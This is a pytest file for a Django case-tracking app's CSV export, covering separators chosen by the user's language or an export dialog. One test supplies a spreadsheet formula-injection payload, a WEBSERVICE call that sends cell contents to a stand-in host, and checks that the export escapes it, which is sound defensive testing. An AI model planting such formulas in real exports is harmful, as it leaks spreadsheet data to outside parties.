"""The case list's export in the format of the user's spreadsheet, chosen in its dialog."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from kartoteka.testing.cases import make_case
from kartoteka.testing.clients import client_for
from kartoteka.testing.customers import AccountFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("cases:case-export")
LIST_URL = reverse("cases:case-list")


def text(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def speaking(user, language: str):
    user.language = language
    user.save(update_fields=["language"])
    return client_for(user)


@pytest.mark.parametrize("language", ["pl", "cs"])
def test_a_polish_or_czech_user_gets_semicolons_by_default(agent, language) -> None:
    # given
    make_case("Awaria; drukarka", account=AccountFactory(name="Łódź S.A."))
    # when
    body = text(speaking(agent, language).get(EXPORT_URL))
    # then
    table = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert len(table[0]) == 13
    assert table[1][1] == "Awaria; drukarka"
    assert table[1][7] == "Łódź S.A."


def test_the_dialogs_choice_wins_over_the_language(agent) -> None:
    make_case("Awaria")
    body = text(speaking(agent, "pl").get(EXPORT_URL, {"separator": "tab"}))
    header, row = body.splitlines()[:2]
    assert len(header.split("\t")) == 13
    assert row.split("\t")[1] == "Awaria"
    assert ";" not in header


def test_an_english_user_gets_commas(agent) -> None:
    make_case("Awaria")
    body = text(speaking(agent, "en").get(EXPORT_URL))
    assert body.startswith("Number,Subject,Status,")


def test_a_hostile_cell_is_neutralised_with_semicolons(agent) -> None:
    # given
    make_case('=WEBSERVICE("http://zly.example/?"&A2)', account=AccountFactory(name="+Firma"))
    # when
    body = text(speaking(agent, "pl").get(EXPORT_URL, {"separator": "semicolon"}))
    # then
    row = next(csv.reader(io.StringIO(body.splitlines()[1]), delimiter=";"))
    assert row[1] == '\'=WEBSERVICE("http://zly.example/?"&A2)'
    assert row[7] == "'+Firma"


def test_the_list_offers_the_dialog_with_its_filters_and_the_default_choice(agent) -> None:
    # given
    make_case("Awaria drukarki")
    # when
    page = speaking(agent, "pl").get(LIST_URL, {"subject": "awaria", "page": "1"}).text
    # then
    assert '<details class="export-dialog">' in page
    assert f'action="{EXPORT_URL}"' in page
    assert '<input type="hidden" name="subject" value="awaria">' in page
    assert '<input type="hidden" name="page"' not in page
    assert 'value="semicolon" id="id_separator_0" checked' in page
